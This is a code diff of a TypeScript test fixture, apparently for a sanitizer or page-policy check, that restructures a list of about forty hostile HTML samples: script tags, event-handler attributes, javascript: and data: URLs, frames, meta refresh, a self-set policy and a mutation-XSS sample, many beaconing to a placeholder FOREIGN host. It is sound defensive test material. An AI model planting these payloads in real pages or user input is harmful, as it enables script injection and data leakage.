@@ -6,149 +6,68 @@ export interface HostileMarkup {
   name: string;
   html: string;
   /** No policy of a page can stop it, so that the content check alone has to refuse it. */
-  isForCheck?: boolean;
+  isForCheck: boolean;
 }
 
 const run = "window.ran=1;new Image().src='FOREIGN/ran';fetch('FOREIGN/ran')";
 
-export const hostileMarkup: HostileMarkup[] = [
-  { name: "a script", html: `<script>${run}</script>` },
-  { name: "a module", html: `<script type="module">${run}</script>` },
-  {
-    name: "a script of another host",
-    html: '<script src="FOREIGN/x.js"></script>',
-  },
-  {
-    name: "a script in a data address",
-    html: `<script src="data:text/javascript,${run}"></script>`,
-  },
-  {
-    name: "a script of the site's own media",
-    html: '<script src="/media/evil.js"></script>',
-    isForCheck: true,
-  },
-  {
-    name: "an import map",
-    html: '<script type="importmap">{"imports":{"x":"FOREIGN/x.js"}}</script>',
-  },
-  {
-    name: "speculation rules",
-    html: '<script type="speculationrules">{"prefetch":[{"urls":["FOREIGN/x"]}]}</script>',
-  },
-  { name: "onload of a drawing", html: `<svg onload="${run}"></svg>` },
-  { name: "a script in a drawing", html: `<svg><script>${run}</script></svg>` },
-  {
-    name: "a link in a drawing",
-    html: `<svg><a href="javascript:${run}"><text y="20">x</text></a></svg>`,
-  },
-  {
-    name: "an image in a drawing",
-    html: '<svg><image href="FOREIGN/x.svg"/><use href="FOREIGN/x.svg#a"/></svg>',
-  },
-  {
-    name: "an animated address",
-    html: `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">x</text></a></svg>`,
-  },
-  {
-    name: "onerror of an image",
-    html: `<img src="/nothing.png" alt="" onerror="${run}">`,
-  },
-  { name: "onfocus", html: `<input autofocus onfocus="${run}">` },
-  {
-    name: "ontoggle",
-    html: `<details open ontoggle="${run}"><summary>x</summary></details>`,
-  },
-  { name: "onclick", html: `<button onclick="${run}">x</button>` },
-  {
-    name: "onanimationstart",
-    html: `<b style="animation: x 1s" onanimationstart="${run}">x</b>`,
-  },
-  { name: "a javascript link", html: `<a href="javascript:${run}">x</a>` },
-  {
-    name: "a javascript link with a tab",
-    html: `<a href="java&#9;script:${run}">x</a>`,
-  },
-  {
-    name: "a javascript form",
-    html: `<form action="javascript:${run}"><button>x</button></form>`,
-  },
-  {
-    name: "a javascript button",
-    html: `<form><button formaction="javascript:${run}">x</button></form>`,
-  },
-  {
-    name: "a form to another host",
-    html: '<form action="FOREIGN/form" method="post"><input name="a" value="b"><button>x</button></form>',
-  },
-  {
-    name: "a style",
-    html: "<style>body{background:url(FOREIGN/style)}@import url(FOREIGN/import);</style>",
-  },
-  {
-    name: "a style attribute",
-    html: '<p style="background:url(FOREIGN/style)">x</p>',
-  },
-  {
-    name: "a style sheet of another host",
-    html: '<link rel="stylesheet" href="FOREIGN/x.css">',
-  },
-  {
-    name: "an image of another host",
-    html: '<img src="FOREIGN/x.png" alt=""><img srcset="FOREIGN/y.png 2x" alt="">',
-  },
-  {
-    name: "a film of another host",
-    html: '<video src="FOREIGN/x.mp4" poster="FOREIGN/x.png" autoplay muted></video><audio src="FOREIGN/x.mp3" autoplay></audio>',
-  },
-  {
-    name: "a frame of another host",
-    html: '<iframe src="FOREIGN/frame"></iframe>',
-  },
-  {
-    name: "a frame with a document",
-    html: `<iframe srcdoc="<script>${run}</script>"></iframe>`,
-  },
-  {
-    name: "a frame that runs",
-    html: `<iframe src="javascript:${run}"></iframe>`,
-  },
-  {
-    name: "a frame of data",
-    html: `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
-  },
-  {
-    name: "an object",
-    html: '<object data="FOREIGN/x"></object><embed src="FOREIGN/y">',
-  },
-  {
-    name: "an object of data",
-    html: `<object data="data:text/html,<script>${run}</script>"></object>`,
-  },
-  {
-    name: "a base",
-    html: '<base href="FOREIGN/"><img src="relative.png" alt=""><script src="x.js"></script>',
-  },
-  {
-    name: "a prefetch",
-    html: '<link rel="prefetch" href="FOREIGN/prefetch"><link rel="preload" as="script" href="FOREIGN/preload"><link rel="modulepreload" href="FOREIGN/module">',
-  },
-  { name: "a manifest", html: '<link rel="manifest" href="FOREIGN/manifest">' },
-  { name: "a ping", html: '<a href="#x" ping="FOREIGN/ping">x</a>' },
-  {
-    name: "a policy of its own",
-    html: `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${run}</script>`,
-  },
-  {
-    name: "a refresh",
-    html: '<meta http-equiv="refresh" content="0;url=FOREIGN/refresh">',
-    isForCheck: true,
-  },
-  {
-    name: "a refresh that runs",
-    html: `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
-  },
-  {
-    name: "markup that changes when it is parsed again",
-    html: `<noscript><p title="</noscript><img src=/nothing.png onerror=${JSON.stringify(run)}>"></noscript><math><mtext><table><mglyph><style><img src=/nothing.png onerror="${run}"></style></table></math>`,
-  },
-];
+/** By what it is. */
+const markup: Record<string, string> = {
+  "a script": `<script>${run}</script>`,
+  "a module": `<script type="module">${run}</script>`,
+  "a script of another host": '<script src="FOREIGN/x.js"></script>',
+  "a script in a data address": `<script src="data:text/javascript,${run}"></script>`,
+  "a script of the site's own media": '<script src="/media/evil.js"></script>',
+  "an import map":
+    '<script type="importmap">{"imports":{"x":"FOREIGN/x.js"}}</script>',
+  "speculation rules":
+    '<script type="speculationrules">{"prefetch":[{"urls":["FOREIGN/x"]}]}</script>',
+  "onload of a drawing": `<svg onload="${run}"></svg>`,
+  "a script in a drawing": `<svg><script>${run}</script></svg>`,
+  "a link in a drawing": `<svg><a href="javascript:${run}"><text y="20">x</text></a></svg>`,
+  "an image in a drawing":
+    '<svg><image href="FOREIGN/x.svg"/><use href="FOREIGN/x.svg#a"/></svg>',
+  "an animated address": `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">x</text></a></svg>`,
+  "onerror of an image": `<img src="/nothing.png" alt="" onerror="${run}">`,
+  onfocus: `<input autofocus onfocus="${run}">`,
+  ontoggle: `<details open ontoggle="${run}"><summary>x</summary></details>`,
+  onclick: `<button onclick="${run}">x</button>`,
+  onanimationstart: `<b style="animation: x 1s" onanimationstart="${run}">x</b>`,
+  "a javascript link": `<a href="javascript:${run}">x</a>`,
+  "a javascript link with a tab": `<a href="java&#9;script:${run}">x</a>`,
+  "a javascript form": `<form action="javascript:${run}"><button>x</button></form>`,
+  "a javascript button": `<form><button formaction="javascript:${run}">x</button></form>`,
+  "a form to another host":
+    '<form action="FOREIGN/form" method="post"><input name="a" value="b"><button>x</button></form>',
+  "a style":
+    "<style>body{background:url(FOREIGN/style)}@import url(FOREIGN/import);</style>",
+  "a style attribute": '<p style="background:url(FOREIGN/style)">x</p>',
+  "a style sheet of another host":
+    '<link rel="stylesheet" href="FOREIGN/x.css">',
+  "an image of another host":
+    '<img src="FOREIGN/x.png" alt=""><img srcset="FOREIGN/y.png 2x" alt="">',
+  "a film of another host":
+    '<video src="FOREIGN/x.mp4" poster="FOREIGN/x.png" autoplay muted></video><audio src="FOREIGN/x.mp3" autoplay></audio>',
+  "a frame of another host": '<iframe src="FOREIGN/frame"></iframe>',
+  "a frame with a document": `<iframe srcdoc="<script>${run}</script>"></iframe>`,
+  "a frame that runs": `<iframe src="javascript:${run}"></iframe>`,
+  "a frame of data": `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
+  "an object": '<object data="FOREIGN/x"></object><embed src="FOREIGN/y">',
+  "an object of data": `<object data="data:text/html,<script>${run}</script>"></object>`,
+  "a base":
+    '<base href="FOREIGN/"><img src="relative.png" alt=""><script src="x.js"></script>',
+  "a prefetch":
+    '<link rel="prefetch" href="FOREIGN/prefetch"><link rel="preload" as="script" href="FOREIGN/preload"><link rel="modulepreload" href="FOREIGN/module">',
+  "a manifest": '<link rel="manifest" href="FOREIGN/manifest">',
+  "a ping": '<a href="#x" ping="FOREIGN/ping">x</a>',
+  "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${run}</script>`,
+  "a refresh": '<meta http-equiv="refresh" content="0;url=FOREIGN/refresh">',
+  "a refresh that runs": `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
+  "markup that changes when it is parsed again": `<noscript><p title="</noscript><img src=/nothing.png onerror=${JSON.stringify(run)}>"></noscript><math><mtext><table><mglyph><style><img src=/nothing.png onerror="${run}"></style></table></math>`,
+};
+
+const forCheck = ["a script of the site's own media", "a refresh"];
+
+export const hostileMarkup: HostileMarkup[] = Object.entries(markup).map(
+  ([name, html]) => ({ name, html, isForCheck: forCheck.includes(name) }),
+);
